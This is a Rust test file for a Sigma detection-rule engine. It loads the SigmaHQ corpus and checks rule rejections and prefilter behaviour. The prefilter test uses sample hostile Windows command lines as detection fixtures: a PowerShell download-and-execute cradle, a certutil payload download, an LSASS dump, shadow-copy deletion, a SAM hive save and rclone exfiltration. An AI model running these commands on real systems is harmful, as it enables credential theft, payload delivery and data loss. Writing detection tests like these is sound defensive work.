//! Loads the SigmaHQ corpus and the specification's example documents.
//! Every rule must load except legacy aggregations; each rejection is listed.

use outflow_sigma::{DocKind, Placeholders, RejectKind, RuleSet};
use std::path::PathBuf;

fn corpus() -> Option<PathBuf> {
    let base = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/sigma");
    if base.join("full").is_dir() {
        Some(base)
    } else {
        eprintln!("SKIP: Sigma corpus not found at {}", base.display());
        None
    }
}

fn placeholders() -> Placeholders {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/placeholders.yml");
    Placeholders::from_file(&p).expect("placeholder fixture")
}

#[test]
fn sigmahq_corpus_loads() {
    let Some(base) = corpus() else { return };
    let dirs = [
        "rules",
        "rules-emerging-threats",
        "rules-threat-hunting",
        "rules-compliance",
        "rules-placeholder",
    ];
    let paths: Vec<PathBuf> = dirs.iter().map(|d| base.join("full").join(d)).collect();
    let ph = placeholders();
    let (set, report) = RuleSet::load(&paths, Some(&ph));
    let mut unexpected = Vec::new();
    for (e, r) in report.rejected() {
        println!(
            "rejected {}#{} [{}]: {r}",
            e.file.display(),
            e.doc,
            e.id.as_deref().unwrap_or("-")
        );
        if r.kind != RejectKind::LegacyAggregation {
            unexpected.push(format!("{}: {r}", e.file.display()));
        }
    }
    println!(
        "loaded {} rules, {} filters; rejected by kind: {:?}",
        report.loaded_rules(),
        set.filters().len(),
        report.rejected_by_kind()
    );
    println!("modifiers: {:?}", report.modifier_counts);
    println!("logsources: {} distinct", report.logsource_counts.len());
    for w in &report.warnings {
        println!("warning: {w}");
    }
    assert!(
        unexpected.is_empty(),
        "unexpected rejections:\n{}",
        unexpected.join("\n")
    );
    assert_eq!(set.len(), report.loaded_rules());
    assert!(set.len() > 3500, "only {} rules loaded", set.len());
    // Every rule in rules-placeholder resolved its placeholders.
    let placeholder_rules = report
        .loaded()
        .filter(|e| {
            e.kind == DocKind::Rule && e.file.to_string_lossy().contains("rules-placeholder")
        })
        .count();
    assert_eq!(placeholder_rules, 23);
}

#[test]
fn placeholder_rules_without_map_are_rejected_precisely() {
    let Some(base) = corpus() else { return };
    let (_, report) = RuleSet::load(&[base.join("full/rules-placeholder")], None);
    let rejected: Vec<_> = report.rejected().collect();
    assert!(!rejected.is_empty());
    for (e, r) in rejected {
        assert_eq!(
            r.kind,
            RejectKind::UnresolvedPlaceholder,
            "{}: {r}",
            e.file.display()
        );
        assert!(r.detail.contains("placeholder %"), "{r}");
    }
}

#[test]
fn unsupported_corpus_is_rejected_gracefully() {
    let Some(base) = corpus() else { return };
    let (_, report) = RuleSet::load(&[base.join("full/unsupported")], None);
    let by_kind = report.rejected_by_kind();
    println!(
        "unsupported/: loaded {}, rejected {by_kind:?}",
        report.loaded_rules()
    );
    for (e, r) in report
        .rejected()
        .filter(|(_, r)| r.kind != RejectKind::LegacyAggregation)
    {
        println!("  {}: {r}", e.file.display());
    }
    assert!(
        by_kind
            .get(&RejectKind::LegacyAggregation)
            .copied()
            .unwrap_or(0)
            > 50
    );
}

#[test]
fn spec_examples() {
    let Some(base) = corpus() else { return };
    let spec = base.join("spec/tests/schema");
    let (set, report) = RuleSet::load(&[spec.join("rules"), spec.join("filter")], None);
    for (e, r) in report.rejected() {
        println!("rejected {}: {r}", e.file.display());
    }
    assert_eq!(report.rejected().count(), 0);
    assert_eq!(set.len(), 2);
    assert_eq!(set.filters().len(), 2);
    assert_eq!(set.rules()[0].meta.attack, vec!["T1211", "T1562.001"]);
    let (_, report) = RuleSet::load(&[spec.join("correlation")], None);
    assert_eq!(report.entries.len(), 8);
    for (e, r) in report.rejected() {
        assert_eq!(e.kind, DocKind::Correlation);
        // Loaded alone, the examples name rules that are not there.
        assert!(r.detail.contains("names no loaded rule"), "{r}");
    }
    assert_eq!(report.rejected().count(), 8);
}

/// The prefilter changes speed, never results: compare with and without it.
#[test]
fn prefilter_is_transparent_on_the_corpus() {
    let Some(base) = corpus() else { return };
    let (set, _) = RuleSet::load(&[base.join("full/rules/windows")], None);
    assert!(set.has_prefilter());
    let gated = set
        .rules()
        .iter()
        .filter(|r| r.required_literals.is_some())
        .count();
    println!(
        "{gated} of {} windows rules have a required-literal set",
        set.len()
    );
    let plain = set.clone().without_prefilter();
    let lines = [
        ("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
        ("CommandLine", "powershell -nop -w hidden -enc SQBFAFgA IEX (New-Object Net.WebClient).DownloadString('http://x')"),
        ("Image", "C:\\Windows\\System32\\certutil.exe"),
        ("CommandLine", "certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe"),
        ("Image", "C:\\Windows\\System32\\rundll32.exe"),
        ("CommandLine", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full"),
        ("CommandLine", "vssadmin delete shadows /all /quiet"),
        ("CommandLine", "reg save HKLM\\SAM C:\\temp\\sam.save"),
        ("CommandLine", "rclone.exe copy C:\\data mega:backup"),
    ];
    let mut total = 0;
    for (i, (k, v)) in lines.iter().enumerate() {
        let ev = event_pc(
            &[
                (k, v),
                ("ParentImage", "C:\\Windows\\explorer.exe"),
                ("User", "CORP\\bob"),
            ],
            i,
        );
        let (mut a, mut b) = (Vec::new(), Vec::new());
        set.matches(&ev, &mut Default::default(), &mut a);
        plain.matches(&ev, &mut Default::default(), &mut b);
        assert_eq!(a, b, "{k}={v}");
        total += a.len();
    }
    println!("{total} matches, identical with and without the prefilter");
    assert!(total > 5);
}

fn event_pc(fields: &[(&str, &str)], n: usize) -> outflow_event::Event {
    use outflow_event::{Event, LogSource, Origin, Position, SourceKind};
    use std::sync::Arc;
    let origin = Origin {
        file: Arc::from("t"),
        position: Position::Record(n as u64),
    };
    let mut ev = Event::new(SourceKind::Evtx, origin, "");
    for (k, v) in fields {
        ev.push_str(Arc::from(*k), v);
    }
    ev.logsources = Arc::from(vec![LogSource {
        product: Some(Arc::from("windows")),
        category: Some(Arc::from("process_creation")),
        service: None,
    }]);
    ev
}
